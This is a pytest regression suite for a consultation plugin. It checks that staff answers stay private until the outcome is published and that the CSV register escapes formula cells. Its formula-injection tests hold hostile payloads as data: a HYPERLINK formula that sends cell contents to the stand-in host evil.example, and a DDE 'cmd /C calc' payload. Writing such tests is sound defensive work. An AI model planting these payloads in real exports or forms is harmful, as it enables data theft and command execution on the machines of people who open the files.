"""Issue 10, items 5 and 6: the register of recommendations and the comments API keep staff
answers private until the outcome is published, and the CSV cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa

from core.db import tenant_context
from core.extensions import db
from plugins.hearings.models import Comment
from tests.plugins.hearings.conftest import make_consultation

REASONING = "Internal: the budget office says no"


def _answered_consultation(app, world, tenant_client, sign_in):
    """An open consultation with one comment that staff answered (the outcome not published)."""
    c = make_consultation(app, world.tenant)
    member = sign_in(tenant_client(world.tenant), world.member)
    assert (
        member.post(f"/hearings/consultations/{c['id']}/comments", data={"body": "More kitchens"}).status_code
        == 302
    )
    with app.app_context(), tenant_context(world.tenant.id):
        cmid = db.session.execute(sa.select(Comment.id)).scalar_one()
    staff = sign_in(tenant_client(world.tenant), world.staff)
    answered = staff.post(
        f"/hearings/consultations/{c['id']}/comments/{cmid}/answer",
        data={"outcome": "not_accepted", "reason": REASONING},
    )
    assert answered.status_code == 302
    return c, staff


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_answers_hidden_from_the_public_until_the_outcome_is_published(app, world, tenant_client, sign_in):
    """Issue 10 item 5: before the outcome was published, register.csv, register.json, the API's
    register and the comments API showed staff answers and reasoning to anonymous readers."""
    c, staff = _answered_consultation(app, world, tenant_client, sign_in)
    cid = c["id"]
    readers = {
        "anonymous": tenant_client(world.tenant),
        "member": sign_in(tenant_client(world.tenant), world.member),
    }
    for who, reader in readers.items():
        (row,) = _csv_rows(reader.get(f"/hearings/consultations/{cid}/register.csv"))
        assert (row["answer"], row["reasoning"]) == ("", ""), who
        assert row["comment"] == "More kitchens"  # the comment itself is public
        for url in (
            f"/hearings/consultations/{cid}/register.json",
            f"/api/v1/hearings/consultations/{cid}/register",
        ):
            response = reader.get(url)
            assert response.status_code == 200
            (entry,) = json.loads(response.get_data(as_text=True))["comments"]
            assert (entry["answer"], entry["reasoning"]) == ("", ""), (who, url)
        (comment,) = reader.get(f"/api/v1/hearings/consultations/{cid}/comments").json
        assert (comment["outcome"], comment["outcome_reason"]) == (None, None), who
        assert REASONING not in reader.get(f"/hearings/consultations/{cid}").get_data(as_text=True)
    # staff see their answers everywhere
    (row,) = _csv_rows(staff.get(f"/hearings/consultations/{cid}/register.csv"))
    assert (row["answer"], row["reasoning"]) == ("not_accepted", REASONING)
    (entry,) = json.loads(staff.get(f"/api/v1/hearings/consultations/{cid}/register").get_data(as_text=True))[
        "comments"
    ]
    assert entry["reasoning"] == REASONING
    (comment,) = staff.get(f"/api/v1/hearings/consultations/{cid}/comments").json
    assert comment["outcome_reason"] == REASONING
    # once published, everyone sees them
    assert (
        staff.post(
            f"/hearings/consultations/{cid}/status",
            data={"action": "close", "confirmed": "yes", "reason": "Enough comments."},
        ).status_code
        == 302
    )
    assert (
        staff.post(
            f"/hearings/consultations/{cid}/outcome",
            data={"summary": "Done", "confirmed": "yes", "reason": "Answered in the report."},
        ).status_code
        == 302
    )
    anon = readers["anonymous"]
    (row,) = _csv_rows(anon.get(f"/hearings/consultations/{cid}/register.csv"))
    assert (row["answer"], row["reasoning"]) == ("not_accepted", REASONING)
    (comment,) = anon.get(f"/api/v1/hearings/consultations/{cid}/comments").json
    assert (comment["outcome"], comment["outcome_reason"]) == ("not_accepted", REASONING)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_register_csv_cells_cannot_start_a_formula(app, world, tenant_client, trigger):
    """Issue 10 item 6: a comment or author starting with ``= + - @``, a tab or a carriage return
    reached the register CSV as is, and a spreadsheet evaluated it (``=HYPERLINK(...)``)."""
    c = make_consultation(app, world.tenant)
    payload = f'{trigger}HYPERLINK("https://evil.example/?x="&A1,"Open")'
    with app.app_context(), tenant_context(world.tenant.id):
        # written directly: names and organisations reach the register from several places
        db.session.add(
            Comment(
                consultation_id=c["id"],
                version=1,
                author_name=payload,
                organisation_name=payload,
                body=payload,
            )
        )
        db.session.commit()
    response = tenant_client(world.tenant).get(f"/hearings/consultations/{c['id']}/register.csv")
    (row,) = _csv_rows(response)
    for column in ("author", "organisation", "comment"):
        assert row[column] == "'" + payload, column
    # the JSON register is data, not a spreadsheet: it keeps what was written
    data = json.loads(
        tenant_client(world.tenant).get(f"/hearings/consultations/{c['id']}/register.json").data
    )
    assert data["comments"][0]["comment"] == payload


def test_register_csv_formula_from_a_posted_comment_and_a_display_name(
    app, world, tenant_client, sign_in, account_factory
):
    """Issue 10 item 6: the path an attacker uses, a display name and a posted comment that are
    formulas, comes out of the register CSV as text."""
    c = make_consultation(app, world.tenant)
    attacker = account_factory(
        name='=HYPERLINK("https://evil.example","x")', memberships={world.tenant: "member"}
    )
    client = sign_in(tenant_client(world.tenant), attacker)
    body = '@SUM(1+1)*cmd|" /C calc"!A0'
    assert client.post(f"/hearings/consultations/{c['id']}/comments", data={"body": body}).status_code == 302
    raw = (
        tenant_client(world.tenant)
        .get(f"/hearings/consultations/{c['id']}/register.csv")
        .get_data(as_text=True)
    )
    (row,) = _csv_rows(tenant_client(world.tenant).get(f"/hearings/consultations/{c['id']}/register.csv"))
    assert row["author"] == """'=HYPERLINK("https://evil.example","x")""" and row["comment"] == "'" + body
    assert ',"=' not in raw and ',"@' not in raw
